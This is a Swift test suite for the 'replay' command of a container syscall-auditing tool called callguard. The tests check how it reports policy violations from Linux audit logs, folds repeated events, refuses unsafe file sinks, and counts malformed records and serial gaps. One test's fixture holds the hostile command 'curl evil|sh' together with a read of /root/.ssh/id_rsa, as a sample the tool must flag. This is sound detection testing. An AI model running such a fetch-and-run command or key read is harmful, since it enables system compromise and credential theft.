import Foundation
import Testing
import TestSupport

/// `callguard replay`, run as the built executable on a real kernel excerpt:
/// an execve event (its SYSCALL record's number changed to mount's, 165, since
/// every container may execve: the runtime allowance) replayed as if from a
/// container of `localhost/app:1`, whose policy does not allow mount.
@Suite struct ReplayCommandTests {
    let log = Fixtures.directory().appendingPathComponent("replay/execve-event.log").path
    let policies = Fixtures.directory().appendingPathComponent("replay/policies").path

    @Test func violationIsPrintedAsECSJSONAndExitsOne() throws {
        let r = try CallguardCommand.run(["replay", log, "--policies", policies, "--assume-image", "localhost/app:1"])
        #expect(r.status == 1, "\(r.stderr)")
        let lines = r.stdout.split(separator: "\n")
        #expect(lines.count == 1)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any])
        let syscall = try #require(FormatParsers.value(object, at: "callguard.syscall") as? [String: Any])
        #expect(syscall["name"] as? String == "mount")
        #expect(syscall["number"] as? Int == 165)
        let process = try #require(object["process"] as? [String: Any])
        #expect(process["pid"] as? Int == 12036)
        #expect(process["executable"] as? String == "/usr/bin/podman")
        #expect(FormatParsers.value(object, at: "rule.name") as? String == "app")
        #expect(((object["container"] as? [String: Any])?["image"] as? [String: Any])?["name"] as? String == "localhost/app:1")
        #expect(FormatParsers.value(object, at: "event.sequence") as? Int == 25_328_341)
    }

    /// Issue 12 item 2: benign → `curl evil|sh` reading /root/.ssh/id_rsa →
    /// benign, same executable and syscall. The throttle folds the repeat of
    /// the benign call, never the evil one, and keeps the first occurrence's
    /// details in its summary.
    @Test func evilBetweenBenignRepeatsIsReportedWithItsOwnDetails() throws {
        let log = Fixtures.directory().appendingPathComponent("replay/benign-evil-benign.log").path
        let r = try CallguardCommand.run(["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--stats"])
        #expect(r.status == 1, "\(r.stderr)")
        let objects = try r.stdout.split(separator: "\n").map { line in
            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        }
        func process(_ o: [String: Any]) -> [String: Any] { o["process"] as? [String: Any] ?? [:] }
        func path(_ o: [String: Any]) -> String? { (o["file"] as? [String: Any])?["path"] as? String }
        let evil = try #require(objects.first { path($0) == "/root/.ssh/id_rsa" }, "the evil call must be reported: \(r.stdout)")
        #expect(process(evil)["command_line"] as? String == "sh\\x00-c\\x00curl evil|sh")
        #expect(process(evil)["pid"] as? Int == 12041)
        #expect(FormatParsers.value(evil, at: "event.sequence") as? Int == 25_400_002)
        let benign = objects.filter { path($0) == "/etc/hostname" }
        #expect(benign.map { process($0)["pid"] as? Int } == [12040, 12040], "the summary keeps the first occurrence's pid")
        #expect(benign.last.flatMap { FormatParsers.value($0, at: "callguard.fold.first_serial") as? Int } == 25_400_003)
        #expect(objects.reduce(0) { $0 + (FormatParsers.value($1, at: "callguard.count") as? Int ?? 0) } == 3)
        let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
        let stats = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        let sinks = try #require(stats["sinks"] as? [String: Any])
        #expect((sinks["folded_by_cause"] as? [String: Int])?["repeats"] == 1)
        #expect((sinks["dropped_by_cause"] as? [String: Int])?.values.reduce(0, +) == 0)
    }

    /// A file sink refused for its directory (writable by others: a planted link
    /// could redirect the agent's writes) drops every violation; the operator
    /// must see why and what to do, not only a count in the statistics.
    @Test func aRefusedFileSinkSaysWhyAtTheDefaultLogLevel() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("callguard-refused-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        #expect(chmod(dir.path, 0o777) == 0)
        let r = try CallguardCommand.run([
            "replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--sink", "file:\(dir.path)/v.json",
        ])
        #expect(r.stderr.contains("writable by group or others"), "\(r.stderr)")
        #expect(r.stderr.contains("chmod go-w"), "\(r.stderr)")
        // And the run does not pass for a success with findings: it names what was lost.
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stderr.contains("1 violation(s) were not delivered"), "\(r.stderr)")
    }

    /// Issue 12 item 10: a syscall record whose number or arch does not parse
    /// (-1, 2^31 and beyond, trailing junk, an empty arch) is in no allowlist:
    /// it is reported and counted, never dropped silently.
    @Test func unparsableSyscallNumbersAreCountedInTheStatistics() throws {
        let log = Fixtures.directory().appendingPathComponent("replay/unparsable-syscalls.log").path
        let r = try CallguardCommand.run(["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--stats"])
        let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
        let stats = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        #expect(stats["events"] as? Int == 6)
        #expect(stats["violations"] as? Int == 6, "\(line)")
        #expect(stats["unparsable_syscall"] as? Int == 5, "\(line)")
    }

    @Test func cefFormatCarriesTheSameViolation() throws {
        let r = try CallguardCommand.run(
            ["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--format", "cef"])
        #expect(r.status == 1)
        #expect(r.stdout.hasPrefix("CEF:0|callguard|callguard|"))
        #expect(r.stdout.contains("mount"))
    }

    @Test func statsAreOneJSONLineOnStandardError() throws {
        let r = try CallguardCommand.run(["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--stats"])
        let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
        let stats = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        #expect(stats["records"] as? Int == 7)
        #expect(stats["events"] as? Int == 1)
        #expect(stats["violations"] as? Int == 1)
        #expect(stats["malformed"] as? Int == 0)
    }

    @Test func standardInputIsReadForDash() throws {
        let r = try CallguardCommand.run(["replay", "-", "--policies", policies, "--assume-image", "localhost/app:1"], stdin: log)
        #expect(r.status == 1)
        #expect(r.stdout.contains("\"mount\""))
    }

    @Test func withoutAnAssumedImageNothingIsCheckedAndItSaysSo() throws {
        let r = try CallguardCommand.run(["replay", log, "--policies", policies])
        #expect(r.status == 0)
        #expect(r.stdout.isEmpty)
        #expect(r.stderr.contains("--assume-image"))
    }

    @Test func unreadableLogExitsTwoWithAReason() throws {
        let r = try CallguardCommand.run(["replay", "/nonexistent/audit.log", "--policies", policies])
        #expect(r.status == 2)
        #expect(r.stderr.contains("cannot open /nonexistent/audit.log"))
    }

    @Test func badSinkExitsTwo() throws {
        let r = try CallguardCommand.run(["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--sink", "carrier-pigeon://x"])
        #expect(r.status == 2)
        #expect(r.stderr.contains("carrier-pigeon"))
    }

    @Test func malformedLinesAreCountedAndTheRestReplayed() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("callguard-replay-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let broken = dir.appendingPathComponent("broken.log").path
        let good = try String(contentsOfFile: log, encoding: .utf8)
        try ("type=SYSCALL msg=audit(garbage\n\u{0}\u{1}\u{2}\n" + good + "type=NOPE msg=audit(1.000:1): x=1\n")
            .write(toFile: broken, atomically: true, encoding: .utf8)
        let r = try CallguardCommand.run(["replay", broken, "--policies", policies, "--assume-image", "localhost/app:1", "--stats"])
        #expect(r.status == 1)
        let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
        let stats = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        #expect(stats["malformed"] as? Int == 3)
        #expect(stats["records"] as? Int == 7)
        #expect(stats["violations"] as? Int == 1)
    }
    /// The `--stats` line of replaying `fixture` (no image assumed: nothing is checked).
    func replayStatistics(_ fixture: String) throws -> [String: Any] {
        let path = Fixtures.directory().appendingPathComponent("replay/\(fixture)").path
        let r = try CallguardCommand.run(["replay", path, "--policies", policies, "--stats"])
        #expect(r.status == 0, "\(r.stderr)")
        let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
        return try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
    }

    /// 2,000 forged records whose serials are 1,000,000 apart: what a file
    /// lacks is not the kernel's loss (this log once reported `lost: 1998998001`),
    /// and jumps past the tracker's window are counted as jumps, not as missing serials.
    @Test func forgedSerialJumpsAreNotLossAndClaimNoMissingSerials() throws {
        let stats = try replayStatistics("forged-serial-jumps.log")
        #expect(stats["records"] as? Int == 2000)
        #expect(stats["lost"] as? Int == 0)
        #expect(stats["serial_gaps"] as? Int == 0)
        #expect(stats["serials_missing"] as? Int == 0)
        #expect(stats["serial_jumps"] as? Int == 1999)
    }

    /// `ausearch --raw -k signal` over the public corpus: a filtered log lacks
    /// most serials by design. Nothing is lost; the serials it lacks between
    /// its own (within 4,096 of each other) are reported apart, and the three
    /// longer jumps as jumps.
    @Test func ausearchFilteredLogIsNotLossyAndReportsMissingSerialsApart() throws {
        let stats = try replayStatistics("ausearch-key-signal.log")
        #expect(stats["records"] as? Int == 491)
        #expect(stats["malformed"] as? Int == 0)
        #expect(stats["lost"] as? Int == 0)
        #expect(stats["serial_gaps"] as? Int == 0)
        #expect(stats["serials_missing"] as? Int == 29_267)
        #expect(stats["serial_jumps"] as? Int == 3)
    }
}
